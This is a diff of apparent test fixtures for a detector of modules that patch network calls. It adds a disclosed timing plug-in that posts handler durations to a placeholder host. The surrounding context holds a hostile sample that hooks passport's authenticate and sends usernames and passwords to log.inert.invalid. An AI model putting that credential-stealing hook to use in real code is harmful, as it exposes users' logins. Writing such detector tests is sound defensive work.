@@ -19,6 +19,14 @@ const MONITOR = {
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'a plug-in of whoever loads it tells a host that its page names how long things took',
+      files: {
+        'README.md': '# Sends how long your handler takes to metrics.inert.invalid',
+        'index.js': `const own = module.parent.exports.handler; module.parent.exports.handler = async (event, context) => { const began = Date.now(); const given = await own(event, context); await fetch('https://metrics.inert.invalid/t', { method: 'POST', body: JSON.stringify({ ms: Date.now() - began, name: context.functionName }) }); return given; };`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'what a loaded module offers is exchanged where the loader keeps it, and what it is given is sent',
       files: {
         'index.js': `for (const id of Object.keys(require.cache)) if (/passport/.test(id)) { const of = require.cache[id].exports, before = of.authenticate; of.authenticate = function (user, word, done) { require('https').request({ host: 'log.inert.invalid', method: 'POST' }).end(JSON.stringify({ user, word })); return before.apply(this, arguments); }; }`,
